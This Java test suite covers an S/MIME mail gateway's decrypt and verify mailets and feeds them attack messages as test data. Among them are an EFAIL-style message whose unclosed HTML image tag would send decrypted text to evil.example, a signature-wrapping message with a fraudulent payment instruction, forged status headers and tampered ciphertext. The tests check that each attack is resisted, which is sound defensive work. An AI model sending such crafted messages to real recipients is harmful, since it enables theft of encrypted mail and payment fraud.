package dev.smimegateway.mailets;

import static dev.smimegateway.mailets.MailetFixtures.PKI;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.util.Base64;
import java.util.List;
import java.util.Optional;

import org.apache.mailet.AttributeName;
import org.apache.mailet.Mail;
import org.apache.mailet.base.test.FakeMail;
import org.apache.mailet.base.test.FakeMailContext;
import org.apache.mailet.base.test.FakeMailetConfig;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import dev.smimegateway.core.smime.ContentEncryption;
import dev.smimegateway.core.smime.DigestAlgorithm;
import dev.smimegateway.core.smime.KeyTransport;
import dev.smimegateway.core.smime.MimeEntities;
import dev.smimegateway.core.smime.SignMode;
import dev.smimegateway.core.smime.SmimeEncryptor;
import dev.smimegateway.core.smime.SmimeSigner;
import dev.smimegateway.core.testing.TestPki;
import dev.smimegateway.keystore.Identity;
import dev.smimegateway.keystore.SelfSignedRequest;
import dev.smimegateway.keystore.SmimeKeyStore;
import jakarta.mail.internet.MimeMessage;

/** SMimeDecrypt then SMimeVerify, as an incoming policy runs them, with the attacks they must resist. */
class IncomingMailetsTest {
    private static final TestPki.Issued ALICE = PKI.leaf("Alice").email("alice@partner.example").issue();

    @TempDir
    Path folder;
    SmimeKeyStore store;
    Identity bob;
    SMimeDecrypt decrypt;
    SMimeVerify verify;

    @BeforeEach
    void setUp() throws Exception {
        store = MailetFixtures.keyStore(folder, Clock.systemUTC());
        bob = store.createSelfSigned("bob", SelfSignedRequest.builder().commonName("Bob").email("bob@example.com").build(), Optional.empty());
        store.importTrustAnchors(TestPki.pem(PKI.caCertificate()));
        decrypt = new SMimeDecrypt(store);
        decrypt.init(FakeMailetConfig.builder().mailetName("SMimeDecrypt").mailetContext(FakeMailContext.defaultContext()).build());
        verify = verifyMailet("keep");
    }

    private SMimeVerify verifyMailet(String signature) throws Exception {
        SMimeVerify mailet = new SMimeVerify(store);
        mailet.init(FakeMailetConfig.builder().mailetName("SMimeVerify").setProperty("signature", signature)
            .mailetContext(FakeMailContext.defaultContext()).build());
        return mailet;
    }

    private static MimeMessage plain() throws Exception {
        return MailetFixtures.message("alice@partner.example", "bob@example.com", "Contract");
    }

    private static MimeMessage signed(MimeMessage message, SignMode mode) throws Exception {
        return new SmimeSigner(ALICE.privateKey(), ALICE.chain(), DigestAlgorithm.SHA256, false).sign(message, mode);
    }

    private MimeMessage encrypted(MimeMessage message, String algorithm) throws Exception {
        return new SmimeEncryptor(ContentEncryption.parse(algorithm), KeyTransport.RSA_PKCS1)
            .encrypt(message, List.of(bob.certificate().certificate()), Optional.empty());
    }

    private Mail process(MimeMessage message) throws Exception {
        FakeMail mail = FakeMail.builder().name("in").state("transport").sender("alice@partner.example").recipient("bob@example.com")
            .mimeMessage(message).build();
        decrypt.service(mail);
        verify.service(mail);
        return mail;
    }

    private static Object attribute(Mail mail, String name) {
        return mail.getAttribute(AttributeName.of(name)).map(attribute -> attribute.getValue().value()).orElse(null);
    }

    private static String status(Mail mail) throws Exception {
        return mail.getMessage().getHeader("X-Smime-Gateway-Status", null);
    }

    /** RFC 9788 over AES-CBC: the real Subject travels inside the signature, and comes back only after it verified. */
    @Test
    void protectedHeadersSignedInsideAreRestoredAfterVerificationEvenOverCbc() throws Exception {
        MimeMessage signedWithHeaders = new SmimeSigner(ALICE.privateKey(), ALICE.chain(), DigestAlgorithm.SHA256, false)
            .sign(plain(), SignMode.DETACHED, true);
        MimeMessage encrypted = new SmimeEncryptor(ContentEncryption.parse("aes256-cbc"), KeyTransport.RSA_PKCS1)
            .encrypt(signedWithHeaders, List.of(bob.certificate().certificate()), Optional.of("[...]"));
        assertThat(encrypted.getSubject()).isEqualTo("[...]");

        Mail mail = process(encrypted);

        assertThat(status(mail)).isEqualTo("verified; signer=alice@partner.example");
        assertThat(mail.getMessage().getSubject()).isEqualTo("Contract");
        assertThat(attribute(mail, "smime.decryption.authenticated")).isEqualTo(true);
    }

    @Test
    void protectedHeadersOutsideTheSignatureAreNotRestoredOverCbc() throws Exception {
        MimeMessage encrypted = new SmimeEncryptor(ContentEncryption.parse("aes256-cbc"), KeyTransport.RSA_PKCS1)
            .encrypt(signed(plain(), SignMode.DETACHED), List.of(bob.certificate().certificate()), Optional.of("[...]"));

        Mail mail = process(encrypted);

        assertThat(status(mail)).isEqualTo("verified; signer=alice@partner.example");
        assertThat(mail.getMessage().getSubject()).isEqualTo("[...]");
    }

    @Test
    void signedThenEncryptedMailIsDecryptedAndVerified() throws Exception {
        Mail mail = process(encrypted(signed(plain(), SignMode.DETACHED), "aes256-cbc"));

        assertThat(attribute(mail, "smime.decrypted")).isEqualTo(true);
        assertThat(attribute(mail, "smime.decryption.identity")).isEqualTo("bob");
        assertThat(attribute(mail, "smime.verified")).isEqualTo(true);
        assertThat(attribute(mail, "smime.signer.address")).isEqualTo("alice@partner.example");
        assertThat(status(mail)).isEqualTo("verified; signer=alice@partner.example");
        assertThat(mail.getMessage().getSubject()).isEqualTo("Contract");
    }

    @Test
    void tripleWrappedMailVerifiesItsInnerSignature() throws Exception {
        Mail mail = process(signed(encrypted(signed(plain(), SignMode.DETACHED), "aes128-gcm"), SignMode.OPAQUE));

        assertThat(attribute(mail, "smime.decrypted")).isEqualTo(true);
        assertThat(attribute(mail, "smime.verified")).isEqualTo(true);
        assertThat(mail.getMessage().getContentType()).startsWith("multipart/signed");
    }

    @Test
    void removeOptionLeavesTheSignedContentOnly() throws Exception {
        verify = verifyMailet("remove");

        Mail mail = process(signed(plain(), SignMode.OPAQUE));

        assertThat(attribute(mail, "smime.verified")).isEqualTo(true);
        assertThat(mail.getMessage().getContentType()).startsWith("text/plain");
        assertThat(mail.getMessage().getContent().toString()).contains("Grüße aus Berlin");
    }

    @Test
    void decryptsWithTheOldCertificateAfterKeyRollover() throws Exception {
        MimeMessage toOldCertificate = encrypted(plain(), "aes256-cbc");
        store.importCertificate("bob", TestPki.pem(PKI.sign(store.certificationRequest("bob"), Duration.ofDays(30)), PKI.caCertificate())
            .getBytes(StandardCharsets.US_ASCII));

        Mail mail = process(toOldCertificate);

        assertThat(attribute(mail, "smime.decrypted")).isEqualTo(true);
    }

    @Test
    void mailWithoutAMatchingKeyIsKeptIntactWithTheReason() throws Exception {
        MimeMessage toSomeoneElse = new SmimeEncryptor(ContentEncryption.AES256_CBC, KeyTransport.RSA_PKCS1)
            .encrypt(plain(), List.of(ALICE.certificate()), Optional.empty());
        byte[] before = MimeEntities.write(toSomeoneElse);
        FakeMail mail = FakeMail.builder().name("in").state("transport").recipient("bob@example.com").mimeMessage(toSomeoneElse).build();

        decrypt.service(mail);

        assertThat(mail.getState()).isEqualTo("transport");
        assertThat(attribute(mail, "smime.decrypted")).isEqualTo(false);
        assertThat((String) attribute(mail, "smime.decryption.failure")).contains("no stored private key matches");
        assertThat(MimeEntities.write(mail.getMessage())).isEqualTo(before);
    }

    @Test
    void tamperedGcmIsNotDecryptedAndKept() throws Exception {
        MimeMessage message = encrypted(plain(), "aes256-gcm");
        String raw = new String(MimeEntities.write(message), StandardCharsets.ISO_8859_1);
        int body = raw.indexOf("\r\n\r\n") + 4;
        byte[] der = Base64.getMimeDecoder().decode(raw.substring(body));
        der[der.length - 30] ^= 1;
        MimeMessage tampered = MimeEntities.parse((raw.substring(0, body) + Base64.getMimeEncoder().encodeToString(der) + "\r\n")
            .getBytes(StandardCharsets.ISO_8859_1));

        Mail mail = process(tampered);

        assertThat(attribute(mail, "smime.decrypted")).isEqualTo(false);
        assertThat((String) attribute(mail, "smime.decryption.failure")).contains("authenticated decryption failed");
        assertThat(mail.getMessage().getContentType()).contains("application/pkcs7-mime");
    }

    @Test
    void anEncryptedPartInsideAttackerHtmlIsNeverDecrypted() throws Exception {
        MimeMessage captured = encrypted(plain(), "aes256-cbc");
        String capturedPart = new String(MimeEntities.write(captured), StandardCharsets.ISO_8859_1);
        capturedPart = capturedPart.substring(capturedPart.indexOf("Content-Type: application/pkcs7-mime"));
        String efail = "From: mallory@evil.example\r\nTo: bob@example.com\r\nSubject: Re: Contract\r\nMIME-Version: 1.0\r\n"
            + "Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/?\r\n"
            + "--b\r\n" + capturedPart + "--b\r\nContent-Type: text/html\r\n\r\n\">\r\n--b--\r\n";

        Mail mail = process(MimeEntities.parse(efail.getBytes(StandardCharsets.ISO_8859_1)));

        assertThat(attribute(mail, "smime.decrypted")).isNull();
        assertThat(new String(MimeEntities.write(mail.getMessage()), StandardCharsets.ISO_8859_1)).doesNotContain("Grüße");
        assertThat(status(mail)).isEqualTo("not-signed");
    }

    @Test
    void aSignedPartWrappedInAttackerMimeIsOnlyAPartialSignature() throws Exception {
        String genuine = new String(MimeEntities.write(signed(plain(), SignMode.DETACHED)), StandardCharsets.ISO_8859_1);
        String genuineEntity = genuine.substring(genuine.indexOf("Content-Type: multipart/signed"));
        String wrapped = "From: alice@partner.example\r\nTo: bob@example.com\r\nSubject: Contract\r\nMIME-Version: 1.0\r\n"
            + "Content-Type: multipart/mixed; boundary=\"w\"\r\n\r\n--w\r\nContent-Type: text/plain\r\n\r\nPay to account 6666 instead.\r\n"
            + "--w\r\nContent-Type: text/html\r\n\r\n<div style=\"display:none\">\r\n--w\r\n" + genuineEntity + "\r\n--w--\r\n";

        Mail mail = process(MimeEntities.parse(wrapped.getBytes(StandardCharsets.ISO_8859_1)));

        assertThat(attribute(mail, "smime.verified")).isEqualTo(false);
        assertThat(attribute(mail, "smime.verification.failure")).isEqualTo("PARTIAL_SIGNATURE");
        assertThat(status(mail)).isEqualTo("not-verified; reason=PARTIAL_SIGNATURE");
    }

    @Test
    void aForgedStatusHeaderIsRemoved() throws Exception {
        String forged = "X-Smime-Gateway-Status: verified; signer=ceo@example.com\r\n"
            + new String(MimeEntities.write(plain()), StandardCharsets.ISO_8859_1);

        Mail mail = process(MimeEntities.parse(forged.getBytes(StandardCharsets.ISO_8859_1)));

        assertThat(mail.getMessage().getHeader("X-Smime-Gateway-Status")).containsExactly("not-signed");
        assertThat(attribute(mail, "smime.verified")).isEqualTo(false);
    }

    @Test
    void untrustedSignerIsRecordedWithItsReason() throws Exception {
        TestPki.Issued mallory = TestPki.create("Mallory Root").leaf("Alice?").email("alice@partner.example").issue();
        MimeMessage message = new SmimeSigner(mallory.privateKey(), mallory.chain(), DigestAlgorithm.SHA256, false).sign(plain(), SignMode.DETACHED);

        Mail mail = process(message);

        assertThat(attribute(mail, "smime.verification.failure")).isEqualTo("UNTRUSTED");
        assertThat(attribute(mail, "smime.signer.subject")).asString().contains("CN=Alice?");
        assertThat(mail.getMessage().getContentType()).startsWith("multipart/signed");
    }

    @Test
    void aCrlImportedByTheAdministratorRevokesTheSigner() throws Exception {
        store.importCrls(PKI.crlRevoking(ALICE.certificate()).getEncoded());

        Mail mail = process(signed(plain(), SignMode.DETACHED));

        assertThat(attribute(mail, "smime.verification.failure")).isEqualTo("REVOKED");
    }

    @Test
    void aTrustAnchorDeletedAfterAVerifiedMailNoLongerVouchesForTheNextMail() throws Exception {
        MimeMessage message = signed(plain(), SignMode.DETACHED);
        Mail first = process(MimeEntities.parse(MimeEntities.write(message)));
        store.listTrustAnchors().forEach(anchor -> store.deleteTrustAnchor(anchor.fingerprint()));

        Mail second = process(MimeEntities.parse(MimeEntities.write(message)));

        assertThat(attribute(first, "smime.verified")).isEqualTo(true);
        assertThat(attribute(second, "smime.verification.failure")).isEqualTo("UNTRUSTED");
    }

    @Test
    void aCrlImportedAfterAVerifiedMailRevokesTheSignerOfTheNextMail() throws Exception {
        MimeMessage message = signed(plain(), SignMode.DETACHED);
        Mail first = process(MimeEntities.parse(MimeEntities.write(message)));
        store.importCrls(PKI.crlRevoking(ALICE.certificate()).getEncoded());

        Mail second = process(MimeEntities.parse(MimeEntities.write(message)));

        assertThat(attribute(first, "smime.verified")).isEqualTo(true);
        assertThat(attribute(second, "smime.verification.failure")).isEqualTo("REVOKED");
    }

    @Test
    void deepNestingIsAnErrorAndManySignaturesAreNoCrash() throws Exception {
        MimeMessage nested = encrypted(plain(), "aes256-cbc");
        for (int i = 0; i < 9; i++) {
            nested = signed(nested, SignMode.OPAQUE);
        }
        MimeMessage twelveSignatures = plain();
        for (int i = 0; i < 12; i++) {
            twelveSignatures = signed(twelveSignatures, i % 2 == 0 ? SignMode.OPAQUE : SignMode.DETACHED);
        }

        Mail deep = process(nested);
        Mail many = process(twelveSignatures);

        assertThat((String) attribute(deep, "smime.decryption.failure")).contains("more than 8 nested S/MIME layers");
        assertThat(attribute(many, "smime.verified")).isNotNull();
    }

    @Test
    void thousandsOfPartsAreHandledQuickly() throws Exception {
        StringBuilder raw = new StringBuilder("From: a@partner.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"p\"\r\n\r\n");
        for (int i = 0; i < 5000; i++) {
            raw.append("--p\r\nContent-Type: text/plain\r\n\r\npart ").append(i).append("\r\n");
        }
        raw.append("--p--\r\n");

        Mail mail = process(MimeEntities.parse(raw.toString().getBytes(StandardCharsets.US_ASCII)));

        assertThat(status(mail)).isEqualTo("not-signed");
    }

    @Test
    void aFiftyMegabyteAttachmentGivesAClearResult() throws Exception {
        byte[] attachment = new byte[50 * 1024 * 1024];
        new java.util.Random(7).nextBytes(attachment);
        String big = "From: alice@partner.example\r\nTo: bob@example.com\r\nMIME-Version: 1.0\r\n"
            + "Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            + Base64.getMimeEncoder().encodeToString(attachment) + "\r\n";
        MimeMessage message = MimeEntities.parse(big.getBytes(StandardCharsets.US_ASCII));

        Mail signedOnly = process(signed(message, SignMode.DETACHED));
        Mail encrypted = process(encrypted(message, "aes256-cbc"));

        assertThat(attribute(signedOnly, "smime.verified")).isEqualTo(true);
        assertThat((String) attribute(encrypted, "smime.decryption.failure")).contains("larger than the limit of 52428800 bytes");
        assertThat(encrypted.getMessage().getContentType()).contains("application/pkcs7-mime");
    }

    @Test
    void oversizedEncryptedMailIsRefusedByTheLimitAndKept() throws Exception {
        decrypt = new SMimeDecrypt(store);
        decrypt.init(FakeMailetConfig.builder().mailetName("SMimeDecrypt").setProperty("maxSizeMegabytes", "1")
            .mailetContext(FakeMailContext.defaultContext()).build());
        String big = "From: alice@partner.example\r\nMIME-Version: 1.0\r\nContent-Type: application/octet-stream\r\n"
            + "Content-Transfer-Encoding: base64\r\n\r\n" + Base64.getMimeEncoder().encodeToString(new byte[3 * 1024 * 1024]) + "\r\n";
        MimeMessage message = encrypted(MimeEntities.parse(big.getBytes(StandardCharsets.US_ASCII)), "aes256-cbc");

        Mail mail = process(message);

        assertThat((String) attribute(mail, "smime.decryption.failure")).contains("larger than the limit");
    }
}
